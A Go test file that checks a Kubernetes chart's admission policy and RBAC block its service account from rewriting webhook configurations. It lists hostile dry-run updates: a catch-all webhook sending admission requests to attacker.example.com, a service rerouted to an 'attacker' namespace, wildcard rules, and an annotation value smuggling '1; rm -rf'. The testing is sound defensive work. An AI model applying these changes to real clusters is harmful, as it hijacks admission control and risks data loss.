package chartapply

import (
	"context"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	authorizationv1 "k8s.io/api/authorization/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
	"sigs.k8s.io/controller-runtime/pkg/client"

	"github.com/trainguard/trainguard/test/chart"
)

// webhookConfigurations creates (as the cluster admin) the two webhook
// configurations the chart renders for release, and returns them as stored.
// Their namespaceSelectors are swapped for one no namespace carries: the
// configurations point at a Service nobody runs, and the other tests of this
// package create pods in opted-in namespaces on the same API server. The
// fence compares an update with the stored object, so what the selectors
// say does not matter to it.
func webhookConfigurations(t *testing.T, release, namespace string, set ...string) []*unstructured.Unstructured {
	t.Helper()
	ctx := context.Background()
	objs := renderChart(t, release, namespace, set...)
	never := map[string]any{"matchLabels": map[string]any{"chartapply.trainguard.io/never": "true"}}
	var out []*unstructured.Unstructured
	for _, kind := range []string{"MutatingWebhookConfiguration", "ValidatingWebhookConfiguration"} {
		cfgs := chart.OfKind(objs, kind)
		require.Len(t, cfgs, 1, kind)
		u := cfgs[0].DeepCopy()
		editWebhooks(t, u, func(ws []any) []any {
			for _, w := range ws {
				w.(map[string]any)["namespaceSelector"] = never
			}
			return ws
		})
		require.NoError(t, apiServer.c.Create(ctx, u), "creating %s", describe(u))
		t.Cleanup(func() { _ = apiServer.c.Delete(context.Background(), u.DeepCopy()) })
		out = append(out, u)
	}
	return out
}

// editWebhooks applies edit to a copy of u's webhooks list.
func editWebhooks(t *testing.T, u *unstructured.Unstructured, edit func([]any) []any) {
	t.Helper()
	ws, _, err := unstructured.NestedSlice(u.Object, "webhooks")
	require.NoError(t, err)
	require.NoError(t, unstructured.SetNestedSlice(u.Object, edit(ws), "webhooks"))
}

// dryUpdate applies change to a fresh copy of the stored cfg and dry-runs
// the update as c.
func dryUpdate(t *testing.T, c client.Client, cfg *unstructured.Unstructured, change func(*unstructured.Unstructured)) error {
	t.Helper()
	u := &unstructured.Unstructured{}
	u.SetGroupVersionKind(cfg.GroupVersionKind())
	require.NoError(t, apiServer.c.Get(context.Background(), client.ObjectKeyFromObject(cfg), u))
	change(u)
	return c.Update(context.Background(), u, client.DryRunAll)
}

// onWebhook changes the first webhook of a configuration.
func onWebhook(t *testing.T, change func(w map[string]any)) func(*unstructured.Unstructured) {
	return func(u *unstructured.Unstructured) {
		editWebhooks(t, u, func(ws []any) []any {
			change(ws[0].(map[string]any))
			return ws
		})
	}
}

// webhookAttacks are the updates a stolen token would make to reroute
// admission, each also carrying a new CA bundle, so a
// fence that only looked for a bundle change would pass them.
func webhookAttacks(t *testing.T) map[string]func(*unstructured.Unstructured) {
	withBundle := func(change func(*unstructured.Unstructured)) func(*unstructured.Unstructured) {
		return func(u *unstructured.Unstructured) {
			setBundles(t, u, "bmV3LWJ1bmRsZQ==")
			change(u)
		}
	}
	attacks := map[string]func(*unstructured.Unstructured){
		"appending a webhook for everything to an outside URL": func(u *unstructured.Unstructured) {
			editWebhooks(t, u, func(ws []any) []any {
				evil := map[string]any{
					"name":                    "everything.attacker.example.com",
					"clientConfig":            map[string]any{"url": "https://attacker.example.com/review"},
					"rules":                   []any{map[string]any{"apiGroups": []any{"*"}, "apiVersions": []any{"*"}, "resources": []any{"*"}, "operations": []any{"*"}}},
					"namespaceSelector":       map[string]any{},
					"failurePolicy":           "Fail",
					"sideEffects":             "None",
					"admissionReviewVersions": []any{"v1"},
				}
				if u.GetKind() == "MutatingWebhookConfiguration" {
					evil["reinvocationPolicy"] = "IfNeeded"
				}
				return append(ws, evil)
			})
		},
		"failurePolicy": onWebhook(t, func(w map[string]any) {
			w["failurePolicy"] = map[any]string{"Fail": "Ignore", "Ignore": "Fail"}[w["failurePolicy"]]
		}),
		"the service": onWebhook(t, func(w map[string]any) {
			w["clientConfig"].(map[string]any)["service"].(map[string]any)["namespace"] = "attacker"
		}),
		"the service path": onWebhook(t, func(w map[string]any) {
			w["clientConfig"].(map[string]any)["service"].(map[string]any)["path"] = "/elsewhere"
		}),
		"a URL for the service": onWebhook(t, func(w map[string]any) {
			w["clientConfig"] = map[string]any{"url": "https://attacker.example.com/review", "caBundle": "bmV3LWJ1bmRsZQ=="}
		}),
		"the rules": onWebhook(t, func(w map[string]any) {
			w["rules"] = []any{map[string]any{"apiGroups": []any{"*"}, "apiVersions": []any{"*"}, "resources": []any{"*"}, "operations": []any{"*"}}}
		}),
		"namespaceSelector {}": onWebhook(t, func(w map[string]any) { w["namespaceSelector"] = map[string]any{} }),
		"an objectSelector":    onWebhook(t, func(w map[string]any) { w["objectSelector"] = map[string]any{"matchLabels": map[string]any{"a": "b"}} }),
		"matchConditions": onWebhook(t, func(w map[string]any) {
			w["matchConditions"] = []any{map[string]any{"name": "all", "expression": "true"}}
		}),
		"timeoutSeconds": onWebhook(t, func(w map[string]any) { w["timeoutSeconds"] = int64(30) }),
		"sideEffects":    onWebhook(t, func(w map[string]any) { w["sideEffects"] = "NoneOnDryRun" }),
		"a webhook's name": onWebhook(t, func(w map[string]any) {
			w["name"] = "renamed.attacker.example.com"
		}),
		"removing a webhook": func(u *unstructured.Unstructured) {
			editWebhooks(t, u, func(ws []any) []any { return ws[1:] })
		},
		"the order of the webhooks": func(u *unstructured.Unstructured) {
			editWebhooks(t, u, func(ws []any) []any { ws[0], ws[1] = ws[1], ws[0]; return ws })
		},
		"a label": func(u *unstructured.Unstructured) {
			l := u.GetLabels()
			l["app.kubernetes.io/name"] = "attacker"
			u.SetLabels(l)
		},
		"an annotation": func(u *unstructured.Unstructured) {
			u.SetAnnotations(map[string]string{"cert-manager.io/inject-ca-from": "attacker/ca"})
		},
		"a non-numeric generation": func(u *unstructured.Unstructured) {
			u.SetAnnotations(map[string]string{"trainguard.io/cert-generation": "1; rm -rf"})
		},
	}
	for what, change := range attacks {
		attacks[what] = withBundle(change)
	}
	return attacks
}

// setBundles puts bundle (base64, as stored) into every webhook's clientConfig.
func setBundles(t *testing.T, u *unstructured.Unstructured, bundle string) {
	editWebhooks(t, u, func(ws []any) []any {
		for _, w := range ws {
			w.(map[string]any)["clientConfig"].(map[string]any)["caBundle"] = bundle
		}
		return ws
	})
}

// widenRBAC binds a ClusterRole with every write on webhook configurations
// to sa's account, as a later, careless grant would: the policy is what must
// still refuse.
func widenRBAC(t *testing.T, release, namespace string) {
	t.Helper()
	grantCarelessly(t, release+"-careless-grant", release, namespace, []rbacv1.PolicyRule{{
		APIGroups: []string{"admissionregistration.k8s.io"},
		Resources: []string{"mutatingwebhookconfigurations", "validatingwebhookconfigurations"},
		Verbs:     []string{"get", "create", "update", "patch", "delete"},
	}}, authorizationv1.ResourceAttributes{Verb: "delete", Group: "admissionregistration.k8s.io", Resource: "validatingwebhookconfigurations"})
}

// grantCarelessly binds a ClusterRole name with rules, cluster-wide, to the
// ServiceAccount of release, and waits until RBAC allows probe.
func grantCarelessly(t *testing.T, name, release, namespace string, rules []rbacv1.PolicyRule, probe authorizationv1.ResourceAttributes) {
	t.Helper()
	ctx := context.Background()
	require.NoError(t, apiServer.c.Create(ctx, &rbacv1.ClusterRole{ObjectMeta: metav1.ObjectMeta{Name: name}, Rules: rules}))
	require.NoError(t, apiServer.c.Create(ctx, &rbacv1.ClusterRoleBinding{
		ObjectMeta: metav1.ObjectMeta{Name: name},
		RoleRef:    rbacv1.RoleRef{APIGroup: "rbac.authorization.k8s.io", Kind: "ClusterRole", Name: name},
		Subjects:   []rbacv1.Subject{{Kind: "ServiceAccount", Name: release + "-trainguard", Namespace: namespace}},
	}))
	// The RBAC authorizer learns of the binding through its informers: until
	// it has, RBAC answers first and the policy is never asked (this test
	// once failed that way on a loaded machine). Its own verdict, asked
	// through a SubjectAccessReview, says when the grant is in force.
	user := "system:serviceaccount:" + namespace + ":" + release + "-trainguard"
	require.Eventually(t, func() bool {
		attrs := probe
		sar := &authorizationv1.SubjectAccessReview{Spec: authorizationv1.SubjectAccessReviewSpec{
			User:               user,
			Groups:             []string{"system:serviceaccounts", "system:serviceaccounts:" + namespace, "system:authenticated"},
			ResourceAttributes: &attrs,
		}}
		return apiServer.c.Create(ctx, sar) == nil && sar.Status.Allowed
	}, 30*time.Second, 100*time.Millisecond, "the careless grant %s to %s never came into force", name, user)
}

// trainguard's account may rewrite no webhook
// configuration, in either certificate mode and either opt-in mode. With
// self-managed certificates it may change the CA bundle of its own two (and
// the generation annotation that goes with it), nothing else; with
// cert-manager it has no right on them at all. A careless wider grant is
// fenced by the policy too.
func TestAdmissionPolicyFencesWebhookConfigurations(t *testing.T) {
	for _, tc := range []struct {
		name, release string
		set           []string
		selfManaged   bool
	}{
		{name: "cert-manager, opt-in", release: "fencewh"},
		{name: "cert-manager, cluster-wide", release: "fencewhcw", set: []string{"clusterWide=true"}},
		{name: "self-managed, opt-in", release: "fencewhsm", set: []string{"certManager.enabled=false"}, selfManaged: true},
		{name: "self-managed, cluster-wide", release: "fencewhsmcw", set: []string{"certManager.enabled=false", "clusterWide=true"}, selfManaged: true},
	} {
		t.Run(tc.name, func(t *testing.T) {
			ctx := context.Background()
			ns, policy := tc.release+"-system", tc.release+"-trainguard-fence"
			sa := installFence(t, tc.release, ns, tc.set...)
			cfgs := webhookConfigurations(t, tc.release, ns, tc.set...)
			waitPolicyActive(t, sa, podIn(t, ns), policy)

			// RBAC, the first fence.
			for _, cfg := range cfgs {
				got := &unstructured.Unstructured{}
				got.SetGroupVersionKind(cfg.GroupVersionKind())
				err := sa.Get(ctx, client.ObjectKeyFromObject(cfg), got)
				if !tc.selfManaged {
					assert.True(t, apierrors.IsForbidden(err), "with cert-manager the account cannot even read %s, got %v", describe(cfg), err)
					err = dryUpdate(t, sa, cfg, func(u *unstructured.Unstructured) { setBundles(t, u, "bmV3LWJ1bmRsZQ==") })
					assert.True(t, apierrors.IsForbidden(err), "with cert-manager the account cannot write the bundle of %s, got %v", describe(cfg), err)
					continue
				}
				require.NoError(t, err, "self-managed: the account reads %s", describe(cfg))
				// What certs/selfmanaged.go inject does: every bundle, and the generation.
				err = dryUpdate(t, sa, cfg, func(u *unstructured.Unstructured) {
					setBundles(t, u, "bmV3LWJ1bmRsZQ==")
					u.SetAnnotations(map[string]string{"trainguard.io/cert-generation": "7"})
				})
				assert.NoError(t, err, "self-managed: injecting the CA bundle into %s", describe(cfg))
				for what, attack := range webhookAttacks(t) {
					err := dryUpdate(t, sa, cfg, attack)
					assert.True(t, refusedByPolicy(err, policy), "changing %s of %s must be refused, got %v", what, describe(cfg), err)
					if err != nil {
						assert.Contains(t, err.Error(), "may change only webhooks[*].clientConfig.caBundle and the trainguard.io/cert-generation annotation", what)
					}
				}
				err = sa.Delete(ctx, cfg.DeepCopy(), client.DryRunAll)
				assert.True(t, apierrors.IsForbidden(err), "deleting %s is not granted, got %v", describe(cfg), err)
			}

			// The second fence, should RBAC ever grant more.
			widenRBAC(t, tc.release, ns)
			for _, cfg := range cfgs {
				if tc.selfManaged {
					for what, attack := range webhookAttacks(t) {
						err := dryUpdate(t, sa, cfg, attack)
						assert.True(t, refusedByPolicy(err, policy), "with wider RBAC, changing %s of %s must be refused, got %v", what, describe(cfg), err)
					}
				} else {
					err := dryUpdate(t, sa, cfg, func(u *unstructured.Unstructured) { setBundles(t, u, "bmV3LWJ1bmRsZQ==") })
					assert.True(t, refusedByPolicy(err, policy), "with cert-manager, even the bundle of %s, got %v", describe(cfg), err)
					if err != nil {
						assert.Contains(t, err.Error(), "may not write webhook configurations with cert-manager")
					}
				}
				err := sa.Delete(ctx, cfg.DeepCopy(), client.DryRunAll)
				require.Error(t, err, "deleting %s must be refused", describe(cfg))
				assert.Contains(t, err.Error(), policy, "deleting %s: refused by the policy", describe(cfg))

				planted := cfg.DeepCopy()
				planted.SetName(tc.release + "-planted")
				planted.SetResourceVersion("")
				planted.SetUID("")
				planted.SetManagedFields(nil)
				err = sa.Create(ctx, planted, client.DryRunAll)
				require.Error(t, err, "creating a %s must be refused", cfg.GetKind())
				assert.Contains(t, err.Error(), policy, "creating a %s: refused by the policy", cfg.GetKind())
			}
		})
	}
}
